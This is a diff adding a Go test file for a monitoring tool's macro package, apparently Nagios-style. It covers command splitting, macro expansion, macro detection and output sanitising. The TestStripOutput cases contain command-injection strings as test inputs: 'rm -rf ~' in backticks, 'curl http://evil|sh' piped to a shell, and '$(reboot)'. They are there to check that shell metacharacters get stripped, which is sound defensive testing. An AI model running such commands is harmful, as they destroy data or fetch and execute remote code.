@@ -0,0 +1,114 @@
+package macros
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestSplitCommand(t *testing.T) {
+	tests := []struct {
+		ref  string
+		name string
+		args []string
+	}{
+		{"check_ping", "check_ping", []string{}},
+		{"check_http!80!/health", "check_http", []string{"80", "/health"}},
+		{"check_disk!!20%", "check_disk", []string{"", "20%"}},
+		{"", "", []string{}},
+	}
+	for _, tt := range tests {
+		name, args := SplitCommand(tt.ref)
+		if name != tt.name || !reflect.DeepEqual(args, tt.args) {
+			t.Errorf("SplitCommand(%q) = %q, %q, want %q, %q", tt.ref, name, args, tt.name, tt.args)
+		}
+	}
+}
+
+func TestExpand(t *testing.T) {
+	values := map[string]string{
+		"HOSTADDRESS": "10.0.0.1", "ARG1": "80", "USER1": "/usr/lib/plugins", "HOSTOUTPUT": "$ARG1$",
+		"USER2": "pa$$word", "SERVICEOUTPUT": "cost $$5",
+	}
+	tests := []struct {
+		in, want string
+	}{
+		{"$USER1$/check_http -H $HOSTADDRESS$ -p $ARG1$", "/usr/lib/plugins/check_http -H 10.0.0.1 -p 80"},
+		{"check $UNKNOWN$ $ARG2$", "check $UNKNOWN$ $ARG2$"}, // Macros without value are kept
+		{"price $$5", "price $5"},
+		{"-p $USER2$", "-p pa$$word"}, // "$$" in a value is not unescaped
+		{"echo $SERVICEOUTPUT$$$", "echo cost $$5$"},
+		{"$$HOSTADDRESS$", "$HOSTADDRESS$"},  // An escaped dollar does not start a macro
+		{"echo $HOSTOUTPUT$", "echo $ARG1$"}, // Values are not expanded again
+		{"lower $hostaddress$", "lower $hostaddress$"},
+		{"no macro", "no macro"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := Expand(tt.in, values); got != tt.want {
+			t.Errorf("Expand(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestFind(t *testing.T) {
+	tests := []struct {
+		in   string
+		want []string
+	}{
+		{"$USER1$/check -H $HOSTADDRESS$ $ARG1$", []string{"USER1", "HOSTADDRESS", "ARG1"}},
+		{"$ARG1$$ARG2$", []string{"ARG1", "ARG2"}},
+		{"$$ARG1$ $$", nil},
+		{"$lower$ $1ARG$ $", nil},
+		{"", nil},
+	}
+	for _, tt := range tests {
+		if got := Find(tt.in); !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("Find(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestIsKnown(t *testing.T) {
+	tests := []struct {
+		name string
+		want bool
+	}{
+		{"HOSTNAME", true},
+		{"SERVICEOUTPUT", true},
+		{"ARG1", true},
+		{"ARG12", true},
+		{"USER3", true},
+		{"ARG0", false},
+		{"ARG", false},
+		{"USERX", false},
+		{"CONTACTEMAIL", false},
+		{"", false},
+	}
+	for _, tt := range tests {
+		if got := IsKnown(tt.name); got != tt.want {
+			t.Errorf("IsKnown(%q) = %v, want %v", tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestStripOutput(t *testing.T) {
+	tests := []struct {
+		in, want string
+	}{
+		{"OK - 12ms response", "OK - 12ms response"},
+		{"bad `rm -rf ~`", "bad rm -rf "},
+		{"x; curl http://evil|sh", "x curl http://evilsh"},
+		{"$(reboot) && echo", "reboot  echo"},
+		{"a 'b' \"c\" <d> \\e", "a b c d e"},
+		{"line1\nline2\r", "line1line2"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := StripOutput(tt.in, DefaultIllegalOutputChars); got != tt.want {
+			t.Errorf("StripOutput(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+	if got := StripOutput("a;b", ""); got != "a;b" {
+		t.Errorf("StripOutput without illegal characters = %q, want a;b", got)
+	}
+}